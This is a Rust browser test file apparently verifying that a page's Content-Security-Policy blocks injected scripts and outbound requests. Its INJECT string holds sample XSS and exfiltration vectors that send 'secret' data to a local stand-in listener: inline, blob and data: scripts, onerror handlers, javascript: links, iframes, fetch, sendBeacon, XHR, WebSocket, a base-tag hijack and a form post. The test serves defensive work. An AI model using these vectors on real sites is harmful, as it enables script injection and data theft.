//! Whatever gets into the page, its policy lets nothing of it run and nothing of it out.

use anyhow::{Context, Result, ensure};
use browser_tests::{Page, both};
use serde_json::{Value, json};
use std::io::ErrorKind;
use std::net::TcpListener;
use std::time::Duration;

both!(what_is_injected_neither_runs_nor_leaves, the_policy_is_what_stops_it);

/// Stands ahead of the policy, so that it runs: puts in what an attacker would, all of it for `there`.
const INJECT: &str = "<head><script>
    window.ran = [];
    function inject(there) {
        const put = (tag, fields, parent) =>
            (parent || document.body).appendChild(Object.assign(document.createElement(tag), fields));
        const attempt = what => { try { what(); } catch (refused) {} };
        put('script', {textContent: 'ran.push(1)'});
        put('script', {src: there + 'script.js'});
        put('script', {type: 'module', textContent: 'ran.push(2)'});
        put('script', {src: URL.createObjectURL(new Blob(['ran.push(3)'], {type: 'text/javascript'}))});
        put('script', {src: 'data:text/javascript,ran.push(4)'});
        put('div', {innerHTML: '<img src=\"data:,\" onerror=\"ran.push(5)\">'});
        put('a', {href: 'javascript:ran.push(6)'}).click();
        put('iframe', {srcdoc: '<script>parent.ran.push(7)</' + 'script>'});
        put('iframe', {src: there + 'frame.html'});
        put('object', {data: there + 'object'});
        put('embed', {src: there + 'embed'});
        put('img', {src: there + 'img.png'});
        put('video', {src: there + 'video', poster: there + 'poster'});
        put('link', {rel: 'stylesheet', href: there + 'style.css'}, document.head);
        put('link', {rel: 'preload', as: 'image', href: there + 'preload'}, document.head);
        put('link', {rel: 'manifest', href: there + 'manifest'}, document.head);
        put('style', {textContent: '@import \"' + there + 'import.css\"; main { background: url(' + there + 'back.png) }'});
        attempt(() => fetch(there + 'fetch').catch(() => {}));
        attempt(() => navigator.sendBeacon(there + 'beacon', 'secret'));
        attempt(() => new WebSocket(there.replace('http', 'ws') + 'socket'));
        attempt(() => new EventSource(there + 'events'));
        attempt(() => new Worker(there + 'worker.js'));
        attempt(() => {
            const request = new XMLHttpRequest();
            request.open('POST', there + 'request');
            request.send('secret');
        });
        put('base', {href: there + 'base/'}, document.head);
        put('img', {src: 'relative.png'});
    }
    function send(there) {
        const form = document.body.appendChild(document.createElement('form'));
        Object.assign(form, {action: there + 'form', method: 'post'});
        form.innerHTML = '<input name=secret value=13800000000>';
        // Firefox refuses by an exception.
        try { form.submit(); } catch (refused) {}
    }
    </script>";

/// Opens the page with the attacker's script in it, changed by `change`; has it inject; returns what the script saw.
async fn attacked(page: &Page, there: &str, change: impl Fn(String) -> String) -> Result<Value> {
    let html = change(page.html()?.replacen("<head>", INJECT, 1));
    let copy = page.home().write("attacked.html", html.as_bytes())?;
    page.open_file(&copy).await?;
    page.state("empty").await?;
    page.run("inject(arguments[0])", &[json!(there)]).await?;
    tokio::time::sleep(Duration::from_millis(1_500)).await;
    let seen =
        "return {ran: window.ran, base: document.baseURI.split('#')[0], own: location.href.split('#')[0]}";
    let seen = page.run(seen, &[]).await?;
    page.run("send(arguments[0])", &[json!(there)]).await?;
    tokio::time::sleep(Duration::from_millis(1_500)).await;
    Ok(seen)
}

fn listener() -> Result<(TcpListener, String)> {
    let listener = TcpListener::bind(("127.0.0.1", 0))?;
    listener.set_nonblocking(true)?;
    let there = format!("http://127.0.0.1:{}/", listener.local_addr()?.port());
    Ok((listener, there))
}

async fn what_is_injected_neither_runs_nor_leaves(page: &Page) -> Result<()> {
    let (listener, there) = listener()?;
    let seen = attacked(page, &there, |html| html).await?;
    ensure!(seen["ran"] == json!([]), "it ran: {seen}");
    ensure!(seen["base"] == seen["own"], "the base: {seen}");
    ensure!(page.arrived().is_empty(), "it arrived: {:#?}", page.arrived());
    ensure!(listener.accept().is_err_and(|error| error.kind() == ErrorKind::WouldBlock), "somebody called");
    // Not even the form has led away.
    ensure!(page.run("return location.href.split('#')[0]", &[]).await? == seen["own"]);
    let stopped = page.run("return window.gelanStopped.join(' ')", &[]).await?;
    let stopped = stopped.as_str().context("what was stopped")?;
    for directive in ["script-src-elem", "form-action", "base-uri", "img-src", "connect-src", "frame-src"] {
        ensure!(stopped.contains(directive), "{directive} stopped nothing: {stopped}");
    }
    Ok(())
}

/// Without it, the same gets through: the witnesses see what they should.
async fn the_policy_is_what_stops_it(page: &Page) -> Result<()> {
    let (_listener, there) = listener()?;
    let loose = |html: String| {
        let (before, policy) =
            html.split_once("<meta http-equiv=\"Content-Security-Policy\"").unwrap_or_default();
        let (_, after) = policy.split_once('>').unwrap_or_default();
        format!("{before}{after}")
    };
    let seen = attacked(page, &there, loose).await?;
    for number in 1..=7 {
        ensure!(seen["ran"].as_array().is_some_and(|ran| ran.contains(&json!(number))), "{number}: {seen}");
    }
    let arrived = page.arrived().join("\n");
    for path in
        ["script.js", "img.png", "frame.html", "style.css", "fetch", "beacon", "base/relative.png", "form"]
    {
        ensure!(arrived.contains(&format!("{there}{path}")), "{path} did not arrive: {arrived}");
    }
    Ok(())
}
